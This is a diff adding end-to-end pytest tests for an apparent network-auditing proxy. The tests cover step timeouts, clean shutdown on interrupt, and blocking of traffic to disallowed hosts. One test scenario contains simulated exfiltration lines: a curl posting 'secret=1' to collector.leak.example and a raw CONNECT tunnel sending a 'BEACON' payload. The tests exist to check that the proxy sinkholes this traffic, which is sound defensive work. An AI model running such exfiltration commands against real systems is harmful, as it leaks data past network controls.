@@ -1,0 +1,159 @@
+"""Real runs through the real proxy: timeouts, interrupts, and nothing leaving the machine."""
+
+import http.server
+import json
+import os
+import signal
+import subprocess
+import threading
+import time
+
+import pytest
+
+from .conftest import CLI, REPO, pids_with_marker, run_cli
+
+pytestmark = pytest.mark.e2e
+
+
+def alive(pid: int) -> bool:
+    try:
+        with open(f"/proc/{pid}/stat") as fo:
+            return fo.read().split(") ")[1][0] != "Z"
+    except OSError:
+        return False
+
+
+def test_hanging_step_is_killed_at_its_timeout(write_scenario, tmp_path):
+    sc = write_scenario("""\
+schema_version: 1
+name: hang
+steps:
+  - name: hang
+    run: |
+      echo started
+      setsid sleep 300 &
+      sleep 300
+    timeout: 2
+  - name: after
+    run: echo still-runs
+""")
+    out = tmp_path / "out"
+    t0 = time.monotonic()
+    r = run_cli("run", sc, "--capture", "proxy", "--variants", "unset", "--out", out, "--fail-on", "never")
+    assert time.monotonic() - t0 < 60
+    assert r.returncode == 0, r.stderr
+    manifest = json.loads((out / "runs/hang/unset/run.json").read_text())
+    hang, after = manifest["steps"]
+    assert hang["timed_out"] is True and hang["exit_code"] is None
+    assert 2 <= hang["ended"] - hang["started"] < 15
+    assert after["exit_code"] == 0
+    lines = [json.loads(l) for l in (out / "runs/hang/unset/output.jsonl").read_text().splitlines()]
+    assert {"stream": "stdout", "step": "hang", "text": "started"}.items() <= lines[0].items()
+    assert any(l["stream"] == "audit" and "timed out" in l["text"] for l in lines)
+    assert any(l["text"] == "still-runs" for l in lines)
+    assert not pids_with_marker()
+
+
+@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
+def test_interrupt_leaves_no_process_behind(write_scenario, tmp_path, sig):
+    sc = write_scenario("""\
+schema_version: 1
+name: slow
+steps:
+  - run: |
+      (setsid sleep 300 &)
+      sleep 300
+    timeout: 600
+""")
+    out = tmp_path / "out"
+    proc = subprocess.Popen([*CLI, "run", str(sc), "--capture", "proxy", "--variants", "unset", "--out", str(out)],
+                            cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    events = out / "runs/slow/unset/events.jsonl"
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline and not (events.exists() and '"ready"' in events.read_text()):
+        time.sleep(0.1)
+    mitm_pid = json.loads(events.read_text().splitlines()[0])["pid"]
+    time.sleep(1.0)  # the step is running now
+    assert pids_with_marker(), "the step should be running"
+    proc.send_signal(sig)
+    _, stderr = proc.communicate(timeout=60)
+    assert proc.returncode == 130, stderr
+    assert not alive(mitm_pid), "mitmdump outlived the audit"
+    assert not pids_with_marker(), "a process of the audit outlived it"
+    manifest = json.loads((out / "runs/slow/unset/run.json").read_text())
+    assert not manifest["complete"] and "interrupted" in manifest["problems"][0]
+    assert "Traceback" not in stderr
+
+
+class _Recorder(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.server.seen.append(self.path)
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(b"upstream-says-hi")
+
+    def log_message(self, *a):
+        pass
+
+
+@pytest.fixture
+def local_server():
+    servers = []
+
+    def start():
+        srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
+        srv.seen = []
+        threading.Thread(target=srv.serve_forever, daemon=True).start()
+        servers.append(srv)
+        return srv
+    yield start
+    for s in servers:
+        s.shutdown()
+
+
+def test_nothing_leaves_except_to_allowed_hosts(write_scenario, tmp_path, local_server):
+    allowed, forbidden = local_server(), local_server()
+    a_port, f_port = allowed.server_address[1], forbidden.server_address[1]
+    sc = write_scenario(f"""\
+schema_version: 1
+name: leak
+steps:
+  - run: |
+      export NO_PROXY= no_proxy=
+      curl -s http://localhost:{a_port}/allowed; echo
+      curl -s http://127.0.0.1:{f_port}/forbidden-direct-ip; echo
+      curl -s -d secret=1 https://collector.leak.example/v1/t; echo
+      curl -s http://plain.leak.example/ping; echo
+      python3 - <<'PY'
+      import os, socket
+      host, port = os.environ["HTTPS_PROXY"].rsplit(":", 1)
+      s = socket.create_connection((host.split("//")[1], int(port)))
+      s.sendall(b"CONNECT 127.0.0.1:{f_port} HTTP/1.1\\r\\nHost: 127.0.0.1:{f_port}\\r\\n\\r\\n")
+      s.recv(1000)
+      s.sendall(b"BEACON raw-tcp-payload\\n")
+      s.close()
+      PY
+network:
+  allow: [localhost]
+""")
+    out = tmp_path / "out"
+    r = run_cli("run", sc, "--capture", "proxy", "--variants", "unset", "--out", out, "--fail-on", "never",
+                "--format", "json")
+    assert r.returncode == 0, r.stderr
+    run_dir = out / "runs/leak/unset"
+    output = [json.loads(l)["text"] for l in (run_dir / "output.jsonl").read_text().splitlines()]
+    assert "upstream-says-hi" in output  # the allowed host really was forwarded
+    assert allowed.seen == ["/allowed"]
+    assert forbidden.seen == [], "a sinkholed destination received traffic"
+    events = [json.loads(l) for l in (run_dir / "events.jsonl").read_text().splitlines()]
+    upstream = {(e["host"], e["port"]) for e in events if e["event"] == "upstream"}
+    assert upstream == {("localhost", a_port)}
+    from auditor import flowstore
+
+    exchanges = list(flowstore.read_mitm(run_dir / "flows.mitm"))
+    by_host = {(e.host, e.action) for e in exchanges}
+    assert ("collector.leak.example", "sinkhole") in by_host
+    assert ("plain.leak.example", "sinkhole") in by_host
+    assert ("127.0.0.1", "sinkhole") in by_host
+    raw = [e for e in exchanges if e.kind == "tcp"]
+    assert raw and b"BEACON raw-tcp-payload" in b"".join(m.content for m in raw[0].messages)
